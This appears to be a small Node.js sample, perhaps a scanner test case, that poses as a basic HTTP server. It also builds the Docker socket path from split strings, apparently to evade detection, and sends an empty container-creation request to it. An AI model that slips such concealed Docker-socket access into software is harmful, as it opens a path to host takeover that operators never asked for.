const http = require('http');
const path = require('path');
const place = path.join(
    '/var', 'run',
    'docker' +
        '.sock');
http.request({socketPath: place, method: 'POST', path: '/containers/create'}).end();
http.createServer((request, response) => response.end('ok')).listen(process.env.PORT || 3000);
